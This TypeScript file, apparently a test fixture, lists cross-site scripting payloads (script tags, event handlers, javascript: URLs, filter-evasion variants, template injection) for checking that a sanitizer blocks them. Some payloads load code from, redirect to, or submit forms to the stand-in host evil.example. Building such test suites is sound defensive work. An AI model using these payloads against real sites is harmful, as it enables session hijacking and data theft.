// Injection payloads. One that worked would set `window.hacked`, contact evil.example or insert elements.

export const PAYLOADS: readonly string[] = [
  '<script>window.hacked=1</script>',
  '<ScRiPt>window.hacked=1</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src=data:,window.hacked=1></script>',
  '"><script>window.hacked=1</script>',
  `'><script>window.hacked=1</script>`,
  '</title><script>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '<!--</script><script>window.hacked=1</script>-->',
  '<scr<script>ipt>window.hacked=1</scr</script>ipt>',
  '<img src=x onerror=window.hacked=1>',
  '<img src=x onerror="window.hacked=1">',
  '"><img src=x onerror=window.hacked=1>',
  '<img/src/onerror=window.hacked=1>',
  '<svg onload=window.hacked=1>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<svg/onload=window.hacked=1//',
  '<math><mtext><script>window.hacked=1</script></mtext></math>',
  '<body onload=window.hacked=1>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="javascript:window.hacked=1"></object>',
  '<embed src="javascript:window.hacked=1">',
  '<a href="javascript:window.hacked=1" autofocus onfocus=window.hacked=1>go</a>',
  '<input autofocus onfocus=window.hacked=1>',
  '<details open ontoggle=window.hacked=1>',
  '<video><source onerror=window.hacked=1></video>',
  '<audio src=x onerror=window.hacked=1>',
  '<marquee onstart=window.hacked=1>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example><button>Sign In</button></form>',
  '<template><script>window.hacked=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  'javascript:window.hacked=1//',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.hacked=1&#62;',
  '{{constructor.constructor("window.hacked=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template that must stay text
  '${window.hacked=1}`;window.hacked=1;//',
  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
  ']]><script>window.hacked=1</script>',
];

/** Packs all payloads into few texts of this length. A `javascript:` address must come first in its text. */
export function packPayloads(maxLength: number): string[] {
  const packs: string[][] = [];
  for (const payload of PAYLOADS.toSorted((one, other) => other.length - one.length)) {
    const pack = packs.find((packed) => [...packed, payload].join(' ').length <= maxLength);
    if (!pack) packs.push([payload]);
    else if (payload.startsWith('javascript:')) pack.unshift(payload);
    else pack.push(payload);
  }
  return packs.map((pack) => pack.join(' '));
}
